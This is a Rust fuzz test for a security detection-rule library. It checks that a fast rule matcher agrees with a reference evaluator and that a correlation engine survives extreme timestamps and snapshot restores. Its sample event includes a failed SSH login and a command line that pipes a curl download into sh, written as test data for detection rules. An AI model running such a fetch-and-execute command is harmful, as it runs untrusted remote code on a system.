//! Any text loads without panicking; when rules compile, the fast matcher builds and agrees
//! with the reference evaluator on a fixed event, and the correlation engine takes the matches
//! at extreme times, restores its own snapshot and refuses the input bytes as one cleanly.
#![no_main]

use canh_rules::correlate::{Correlator, CorrelatorConfig, Match};
use canh_rules::fast::FastMatcher;
use canh_rules::{Mapping, RuleSet, load_text};
use libfuzzer_sys::fuzz_target;
use std::collections::BTreeMap;

fuzz_target!(|data: &[u8]| {
    let Ok(text) = std::str::from_utf8(data) else {
        return;
    };
    let loaded = load_text("fuzz.yml", text);
    if !loaded.iter().any(|r| r.rule.is_some()) {
        return;
    }
    let (set, _) = RuleSet::load(&[("fuzz.yml".into(), text.into())], Mapping::builtin());
    let fast = FastMatcher::build(&set).expect("a loaded rule set compiles");
    let mut ev: BTreeMap<String, String> = BTreeMap::new();
    ev.insert(
        "message".into(),
        "Failed password for invalid user Admin from 203.0.113.5 port 22 ssh2".into(),
    );
    ev.insert("user.name".into(), "Admin".into());
    ev.insert("source.ip".into(), "203.0.113.5".into());
    ev.insert(
        "process.command_line".into(),
        "/bin/bash -c 'curl http://x | sh'".into(),
    );
    ev.insert("empty".into(), String::new());
    for f in set.fields() {
        ev.entry(f.written.clone())
            .or_insert_with(|| "Đăng nhập 42".into());
    }
    let matched = set.matches_naive(&ev);
    assert_eq!(fast.matches(&set, &ev), matched);

    let cfg = CorrelatorConfig {
        max_groups: 4,
        ..CorrelatorConfig::default()
    };
    let mut c = Correlator::new(&set, cfg.clone());
    let mut out = Vec::new();
    for time_ms in [0, 60_000, -5, i64::MAX, i64::MIN, 1, i64::MAX - 1] {
        for &rule in &matched {
            c.observe(
                &Match {
                    rule,
                    time_ms,
                    event: &ev,
                },
                &mut out,
            );
        }
    }
    let mut d = Correlator::new(&set, cfg);
    d.restore(&c.snapshot())
        .expect("a correlator restores its own snapshot");
    let _ = d.restore(data);
});
